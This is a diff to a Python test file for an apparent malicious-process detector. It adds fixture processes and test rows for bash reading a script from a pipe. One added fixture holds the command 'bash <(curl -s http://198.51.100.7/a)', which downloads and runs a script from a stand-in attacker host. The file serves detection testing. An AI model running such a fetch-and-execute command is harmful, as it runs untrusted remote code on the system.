@@ -41,7 +41,8 @@ CURL = process("/usr/bin/curl", "curl", "-s", "x", pid=16, session=500, files={1
 SSHD = process("/usr/sbin/sshd", pid=17)
 INETD = process("/usr/sbin/xinetd", pid=18, files=_SOCKET)
 MEMORY = process("/usr/bin/perl", pid=19, files={5: "/memfd:x (deleted)"})
-_PEERS = (INIT, SHELL, MANAGER, EXPLOIT, DROPPER, CURL, SSHD, INETD, MEMORY)
+SUBSTITUTING = process("/usr/bin/bash", "bash", "-c", "bash <(curl -s http://198.51.100.7/a); true", pid=20)
+_PEERS = (INIT, SHELL, MANAGER, EXPLOIT, DROPPER, CURL, SSHD, INETD, MEMORY, SUBSTITUTING)
 
 
 class Row(t.NamedTuple):
@@ -179,6 +180,14 @@ ROWS: dict[str, Row] = {
     "substitution": Row(
         process("/usr/bin/bash", "bash", "/dev/fd/63", parent=12, user=1000, files={0: "/dev/null", 63: "pipe:[8]"}),
         _behavior("interpreter_from_pipe", "informational"),
+    ),
+    "substitution of curl": Row(
+        process("/usr/bin/bash", "bash", "/dev/fd/63", parent=12, user=1000, session=500, files={63: "pipe:[1]"}),
+        _behavior("interpreter_from_pipe"),
+    ),
+    "substitution of curl that has ended": Row(
+        process("/usr/bin/bash", "bash", "/dev/fd/63", parent=20, files={0: "/dev/null", 63: "pipe:[8]"}),
+        _behavior("interpreter_from_pipe"),
     ),
     "left behind": Row(process("/usr/bin/bash", "bash", files=_PIPES), _behavior("interpreter_from_pipe")),
     "pipe, connected": Row(
